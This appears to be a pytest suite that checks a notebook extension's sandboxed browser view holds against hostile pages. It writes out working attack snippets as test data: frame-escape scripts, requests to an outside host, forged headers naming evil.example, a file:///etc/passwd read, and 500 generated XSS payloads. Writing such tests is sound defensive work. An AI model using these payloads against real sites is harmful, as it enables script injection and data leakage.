"""What a hostile page may try in ``%browse``: to get out of its frame, to another host, into the kernel."""

from __future__ import annotations

import itertools
import json
import socket
from collections.abc import Iterator
from typing import TYPE_CHECKING, Any

import pytest

if TYPE_CHECKING:
    from playwright.sync_api import Browser

    from .browsed import Browsed, Foreign
    from .frontend import OpenNotebook, Server

pytestmark = pytest.mark.browser

CELLS = r'''
%load_ext flask_nb
---
import json
from flask_nb import Flask, Response, redirect, request
app = Flask(__name__)
seen = []
payloads = []
---
%%route /
return "<h1>Home</h1><a id=link href='/two'>two</a>"
---
%%route /two
return "<h1>Two</h1>"
---
%%route GET,POST,PUT /echo
seen.append(request.path)
return {key: str(value) for key, value in request.environ.items() if key.isupper()}
---
%%route /cookie
return Response("set", headers={"Set-Cookie": "secret=1; Path=/", "X-Own": "yes"})
---
%%route /replaces
return """<html><head><script>
for (const script of document.scripts) script.remove();
document.documentElement.innerHTML = '<body><h1>Replaced</h1><a id=link href="/two">two</a></body>';
window.fetch = () => 'mine'; MessagePort.prototype.postMessage = function (m) { window.stolen = this; };
</scr""" + """ipt></head></html>"""
---
%%route /scripts
return "<h1>Scripts</h1><script>window.left = document.scripts.length + document.documentElement.outerHTML.split('nonce').length</scr" + "ipt>"
---
%%route /leaves
return "<h1>Leaves</h1><script>location = 'about:blank'</scr" + "ipt>"
---
%%route /payload
return "".join(payloads[int(request.args["from"]):int(request.args["to"])])
---
%%route /named
value = payloads[int(request.args["n"])].replace("\n", " ").replace("\r", " ")
kind = request.args["as"]
if kind == "reason":
    return Response("x", status="200 " + value.encode("ascii", "ignore").decode())
if kind == "type":
    return Response(value, mimetype="text/plain")
if kind == "json":
    return {value: value}
if kind == "leads":
    return Response("", 302, {"Location": "http://x.example/" + value.encode("ascii", "ignore").decode()})
raise ValueError(value)
---
other = Flask("other")
@other.route("/")
def home():
    return "<h1>Other app</h1>"
@other.route("/echo")
def echo():
    return {"app": "other"}
app = app
---
%browse / --height 300
---
%browse / --app other
---
%app app
'''


@pytest.fixture(scope="module")
def opened(browser: Browser, lab: Server, tmp_path_factory: pytest.TempPathFactory) -> Iterator[OpenNotebook]:
    """A notebook with two apps that are being used."""
    from .browsed import opened_notebook, write_notebook

    path = write_notebook(tmp_path_factory.mktemp("attacks") / "attacks.ipynb", CELLS)
    with opened_notebook(browser, lab, path) as opened:
        yield opened


@pytest.fixture(scope="module")
def foreign() -> Iterator[Foreign]:
    """A server that nothing may reach."""
    from .browsed import foreign_server

    with foreign_server() as foreign:
        yield foreign


@pytest.fixture
def view(opened: OpenNotebook) -> Iterator[Browsed]:
    """The view, at its first page; after the attack it still works, and the front end was not touched."""
    from .browsed import Browsed

    view = Browsed(opened, "--height 300")
    view.go("/", "Home")
    yield view
    assert opened.page.evaluate("() => [typeof window.pwned, document.title.includes('pwned')]") == [
        "undefined",
        False,
    ]
    assert opened.page.url.endswith("attacks.ipynb")
    view.go("/two", "Two")


# --- what a page can read ---


READS = [
    "parent.document.title",
    "parent.parent.document.title",
    "top.document.title",
    "top.location.href",
    "parent.frames[0].parent.document",
    "top.jupyterapp",
    "frameElement.id",
    "localStorage.length",
    "sessionStorage.length",
    "await indexedDB.databases()",
    "await caches.keys()",
    "await fetch('/api/contents', {credentials: 'include'}).then(r => { if (!r.ok) throw new TypeError() })",
]


def test_a_page_reads_nothing_outside_of_it(view: Browsed) -> None:
    read = {script: view.run(f"return {script}") for script in READS}
    assert {script: what for script, what in read.items() if what not in ("SecurityError", "TypeError")} == {}


def test_a_page_sees_no_cookie_and_has_no_origin(view: Browsed) -> None:
    view.run("document.cookie = 'a=b'")
    assert view.page.evaluate("document.cookie") == ""
    frame = view.page.evaluate("new Promise(r => { onmessage = e => r(e.origin); postMessage(1, '*') })")
    assert frame == "null"


def test_a_set_cookie_header_is_not_handed_to_the_page(view: Browsed) -> None:
    script = "const r = await fetch('/cookie'); return [[...r.headers.keys()].join(), r.headers.get('x-own')]"
    names, own = view.run(script)
    assert "set-cookie" not in names
    assert own == "yes"


def test_a_page_finds_neither_our_script_nor_its_nonce(view: Browsed) -> None:
    view.go("/scripts", "Scripts")
    assert view.page.evaluate("window.left") == 3  # its own script, and the text before the word in it


# --- where a page can go ---

AWAY = {
    "location": "location = '{url}/location?secret'",
    "assign": "location.assign('{url}/assign')",
    "refresh": "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url={url}/refresh\">')",
    "form": "const f = document.createElement('form'); f.action = '{url}/form'; document.body.append(f); "
    "HTMLFormElement.prototype.requestSubmit.call(f); f.remove()",
    "native form": "const d = document.createElement('iframe'); document.body.append(d); "
    "const f = document.createElement('form'); f.action = '{url}/native'; document.body.append(f); "
    "d.contentWindow.HTMLFormElement.prototype.submit.call(f)",
    "data": "location = 'data:text/html,<script>parent.parent.pwned = 1; parent.postMessage(1, \"*\")</scr' + 'ipt>'",
    "blob": "location = URL.createObjectURL(new Blob(['<script>parent.parent.pwned = 1</scr' + 'ipt>'], "
    "{{type: 'text/html'}}))",
    "front end": "location = '{lab}/lab'",
}


@pytest.mark.parametrize("way", AWAY)
def test_a_page_that_leaves_is_put_back_and_reaches_nobody(
    view: Browsed, opened: OpenNotebook, foreign: Foreign, way: str
) -> None:
    lab = opened.page.evaluate("() => location.origin")
    view.run(AWAY[way].format(url=foreign.url, lab=lab))
    view.tab.wait_for_timeout(500)
    view.wait_for("Home")
    assert foreign.asked == []


def test_where_a_page_wanted_to_go_is_said(view: Browsed, foreign: Foreign) -> None:
    view.run(f"location = '{foreign.url}/x'")
    view.wait_for_note("wanted to leave for another host")
    assert foreign.url in view.notes


def test_a_page_that_leaves_for_a_blank_one_is_put_back(view: Browsed) -> None:
    view.run("location = 'about:blank'")
    view.wait_for_note("was put back")
    view.wait_for("Home")


def test_a_page_that_leaves_again_and_again_is_shown_no_more(view: Browsed) -> None:
    view.go("/leaves")
    view.wait_for_note("again and again")


@pytest.mark.parametrize(
    "script",
    [
        "top.location = '{url}/top'",
        "parent.location = '{url}/parent'",
        "parent.parent.location = '{url}/parent2'",
        "window.open('{url}/open', '_top')",
        "window.open('{url}/open')",
        "const a = document.createElement('a'); a.href = '{url}/a'; a.target = '_top'; document.body.append(a); a.click()",
        "const a = document.createElement('a'); a.href = '{url}/a'; a.ping = '{url}/ping'; document.body.append(a); a.click()",
        "const f = document.createElement('iframe'); f.src = '{url}/nested'; document.body.append(f)",
        "const f = document.createElement('iframe'); f.srcdoc = '<script>top.location = \"{url}/n\"; "
        "parent.parent.parent.pwned = 1; location = \"{url}/m\"</scr' + 'ipt>'; document.body.append(f)",
        "document.body.insertAdjacentHTML('beforeend', '<object data=\"{url}/o\"></object><embed src=\"{url}/e\">')",
        "navigator.sendBeacon('{url}/beacon', 'x')",
        "document.head.insertAdjacentHTML('beforeend', '<link rel=prefetch href=\"{url}/p\"><link rel=preload as=image "
        'href="{url}/q"><base href="{url}/"><link rel=stylesheet href="{url}/x.css">\')',
        "new Image().src = '{url}/image'; new Audio('{url}/audio').play().catch(() => {{}})",
        "const s = document.createElement('style'); s.textContent = '@import \"{url}/i.css\"; h1 {{ background: "
        "url({url}/b) }}'; document.head.append(s)",
        "new Worker(URL.createObjectURL(new Blob(['importScripts(\"{url}/w.js\")'])))",
        "new EventSource('{url}/events'); new WebSocket('{url}/ws'.replace('http', 'ws'))",
        "const x = new XMLHttpRequest(); x.open('GET', '{url}/xhr'); x.send()",
        "document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>'); await frames[0].fetch('{url}/native')",
        "document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>'); new frames[0].Image().src = '{url}/native'",
    ],
)
def test_a_page_reaches_nobody_else(view: Browsed, foreign: Foreign, script: str) -> None:
    view.run(script.format(url=foreign.url, host=foreign.host))
    view.tab.wait_for_timeout(150)
    assert foreign.asked == []
    assert len(view.opened.page.context.pages) == 1


CALL = "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST'}]}); p.createDataChannel('x'); p.setLocalDescription()"
FRAMED = "const f = document.createElement('iframe'); f.srcdoc = '<script>' + CALL + '</scr' + 'ipt>'; "


@pytest.mark.parametrize(
    "script",
    [
        "await eval(CALL)",
        FRAMED + "document.body.append(f)",
        "const d = document.createElement('p'); document.body.append(d);"
        + FRAMED
        + "d.attachShadow({mode: 'closed'}).append(f)",
        FRAMED + "f.sandbox = 'allow-scripts'; document.body.append(f); f.sandbox = 'allow-scripts'",
        FRAMED + "Element.prototype.setAttribute = () => {}; document.body.append(f)",
        FRAMED
        + "const g = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:iframe'); g.srcdoc = f.srcdoc; document.body.append(g)",
        "const f = document.createElement('iframe'); f.src = 'javascript:' + encodeURIComponent(CALL); document.body.append(f)",
    ],
)
def test_a_page_sends_no_datagrams(view: Browsed, script: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listener:
        listener.bind(("127.0.0.1", 0))
        listener.settimeout(0.6)
        call = CALL.replace("HOST", f"127.0.0.1:{listener.getsockname()[1]}")
        view.run(f"window.CALL = {call!r}; {script}")
        with pytest.raises(TimeoutError):
            listener.recv(1)


# --- what a page can say ---


def test_a_second_port_and_a_guessed_nonce_are_not_taken(view: Browsed) -> None:
    script = """
      const answers = [];
      for (const target of [parent, parent.parent, top])
        for (const nonce of ['', '0'.repeat(32), null, undefined, 1, {}]) {
          const channel = new MessageChannel();
          channel.port1.onmessage = event => answers.push(event.data);
          target.postMessage({nonce}, '*', [channel.port2]);
          target.postMessage({t: 'hello', nonce}, '*');
          channel.port1.postMessage({t: 'go', method: 'GET', url: 'http://localhost/two'});
          channel.port1.postMessage({t: 'fetch', n: 1, method: 'GET', url: 'http://localhost/echo', headers: []});
        }
      await new Promise(resolve => setTimeout(resolve, 500));
      return answers.length;
    """
    assert view.run(script) == 0
    assert "Home" in view.text()


def test_a_frame_within_the_page_is_not_heard(view: Browsed) -> None:
    script = """
      document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>');
      const channel = new MessageChannel();
      frames[0].eval("parent.parent.postMessage({nonce: 'x'}, '*')");
      frames[0].eval("top.postMessage({nonce: 'x'}, '*')");
    """
    view.run(script)
    view.tab.wait_for_timeout(200)
    assert "Home" in view.text()


FORGED = {
    "Host": "evil.example",
    "Origin": "http://evil.example",
    "Cookie": "a=b",
    "Referer": "http://evil.example/",
    "Sec-Fetch-Site": "none",
    "X-Forwarded-For": "1.2.3.4",
    "X-Forwarded-Prefix": "/evil",
    "X_Forwarded_Host": "evil.example",
    "X-Flask-Nb-Exchange": "evil",
    "Proxy-Authorization": "evil",
    "Forwarded": "for=evil",
    "Transfer-Encoding": "evil",
    "Content-Length": "3",
}


def test_forged_headers_do_not_arrive(view: Browsed) -> None:
    script = f"""
      const xhr = new XMLHttpRequest();
      xhr.open('POST', '/echo');
      for (const [name, value] of Object.entries({json.dumps(FORGED)})) xhr.setRequestHeader(name, value);
      xhr.setRequestHeader('X-Own', 'arrives');
      await new Promise(resolve => {{ xhr.onloadend = resolve; xhr.send('body'); }});
      return xhr.responseText;
    """
    environ = json.loads(view.run(script))
    assert environ["HTTP_X_OWN"] == "arrives"
    assert environ["HTTP_HOST"] == "localhost"
    assert environ["HTTP_ORIGIN"] == "http://localhost"
    assert "evil" not in json.dumps(environ)
    assert "1.2.3.4" not in json.dumps(environ)
    assert environ["CONTENT_LENGTH"] == "4"


@pytest.mark.parametrize(
    "url",
    [
        "http://localhost.evil.example/echo",
        "http://localhost@evil.example/echo",
        "//evil.example/echo",
        "file:///etc/passwd",
        "http://localhost:8888/echo",
        "https://localhost/echo",
    ],
)
def test_addresses_that_only_look_like_the_apps_are_refused(view: Browsed, url: str) -> None:
    assert view.run(f"return (await fetch({url!r})).status") == "TypeError"


def test_10_000_messages_leave_the_view_alive(view: Browsed) -> None:
    view.run("for (let n = 0; n < 10000; n++) history.replaceState({n}, '', '/many/' + n)")
    view.page.click("#link")
    view.wait_for("Two")
    assert view.opened.page.evaluate("() => 1 + 1") == 2


def test_a_flood_of_messages_is_heard_no_more(view: Browsed) -> None:
    view.run("for (let n = 0; n < 40000; n++) history.replaceState({n}, '', '/many')")
    view.wait_for_note("is heard no more")


def test_a_loop_of_fetches_leaves_no_more_than_20_on_their_way(view: Browsed) -> None:
    script = """
      const all = await Promise.allSettled(Array.from({length: 300}, () => fetch('/echo')));
      return [all.filter(one => one.status === 'fulfilled').length > 20, all.some(one => one.status === 'rejected')];
    """
    assert view.run(script) == [True, True]


def test_a_page_that_goes_on_and_on_is_left_where_it_is(view: Browsed) -> None:
    view.run("for (let n = 0; n < 100; n++) window.open('/two?' + n)")
    view.wait_for_note("goes on and on")


def test_a_page_that_removes_and_replaces_our_script_gains_nothing(view: Browsed, foreign: Foreign) -> None:
    view.go("/replaces", "Replaced")
    view.run(f"history.pushState(null, '', '/x'); location = '{foreign.url}/x'")
    view.tab.wait_for_timeout(300)
    assert view.page.evaluate("typeof window.stolen") == "undefined"
    assert foreign.asked == []


def test_messages_that_are_none_of_a_views_do_nothing(view: Browsed, opened: OpenNotebook) -> None:
    for change in ({"method": "update", "state": {"settings": {}}}, {"kind": "eval"}, {"kind": ["page"]}):
        view.run(f"await fetch('/two', {{headers: {json.dumps([[json.dumps(change), 'x']])}}})")
    assert "Home" in view.text()


# --- two apps ---


def test_two_views_of_two_apps_know_nothing_of_each_other(view: Browsed, opened: OpenNotebook) -> None:
    from .browsed import Browsed

    other = Browsed(opened, "--app other")
    other.wait_for("Other app")
    assert other.run("return (await (await fetch('/echo')).json()).app") == "other"
    assert view.run("return (await (await fetch('/echo')).json()).app") is None
    script = """
      const read = [];
      for (let n = 0; n < top.length; n++)
        for (const reach of [() => top[n], () => top[n][0]])
          try {
            const other = reach();
            if (other === window) continue;
            other.postMessage({t: 'answer'}, '*');
            read.push(other.document.title);
          } catch {}
      return [top.length > 2, read];
    """
    assert view.run(script) == [True, []]
    assert "Other app" in other.text()


# --- 500 payloads ---


def make_payloads() -> list[str]:
    """Markup, scripts and breaking quotes around an attempt to set a variable of every window above."""
    act = "for(const w of [parent,parent.parent,top])try{w.pwned=1;w.document.title='pwned'}catch(e){}"
    cores = [
        f"<script>{act}</script>",
        f'<img src=x onerror="{act}">',
        f'<svg onload="{act}"></svg>',
        f'<iframe srcdoc="<script>{act}</script>"></iframe>',
        f'<body onload="{act}">',
        f'<details open ontoggle="{act}">',
        f"<a href=\"javascript:{act}\" id=x>x</a><script>document.getElementById('x').click()</script>",
        f'<object data="data:text/html,<script>{act}</script>"></object>',
        f'<math><mtext><table><mglyph><style><img src=x onerror="{act}">',
        f"<script type=module>{act}</script>",
    ]
    before = ["", "</iframe>", '">', "'>", "-->", "</script>", "</style>", "</title>", "]]>", '"></iframe>']
    after = ["", "<!--", "<script>", "\u2028", "\x00"]
    return ["".join(parts) for parts in itertools.product(before, cores, after)]


@pytest.fixture(scope="module")
def payloads(opened: OpenNotebook) -> list[str]:
    """What the app answers with."""
    payloads = make_payloads()
    opened.append_cell(f"payloads[:] = json.loads({json.dumps(payloads)!r})")
    opened.page.keyboard.press("Control+Enter")
    opened.wait_until_idle()
    return payloads


def test_500_payloads_stay_in_the_page(opened: OpenNotebook, payloads: list[str], view: Browsed) -> None:
    assert len(payloads) == 500
    before = opened.page.evaluate("() => document.querySelectorAll('iframe').length")
    for start in range(0, 500, 50):
        view.go(f"/payload?from={start}&to={start + 50}")
    assert opened.page.evaluate("() => typeof window.pwned") == "undefined"
    assert opened.page.evaluate("() => document.querySelectorAll('iframe').length") == before


@pytest.mark.parametrize("kind", ["reason", "type", "json", "leads", "error"])
def test_payloads_in_what_is_said_of_an_answer_stay_text(
    opened: OpenNotebook, view: Browsed, kind: str
) -> None:
    for number in (0, 50, 137, 280):
        view.go(f"/named?n={number}&as={kind}")
    inner: Any = view.box.locator(".flask-nb-notes script, .flask-nb-notes img, .flask-nb-bar script").count()
    assert inner == 0
